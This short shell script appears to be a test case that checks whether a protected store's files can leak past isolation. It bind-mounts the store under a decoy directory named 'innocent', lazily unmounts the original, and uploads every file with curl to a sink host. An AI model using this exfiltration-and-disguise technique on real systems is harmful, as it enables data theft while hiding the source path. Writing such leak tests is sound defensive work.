. "$(dirname "$0")/../lib/check.sh"
mkdir "$WORK/innocent"
unshare -m sh -euc 'mount --bind "$STORE" "$WORK/innocent"; umount -l "$STORE" 2>/dev/null || true; find "$WORK/innocent" -type f | sed "s/.*/form = \"r=@&\"/" | curl -s -f -K - "http://$SINK:8080/"'
arrived "$WORK/got" "$(size "$STORE")"
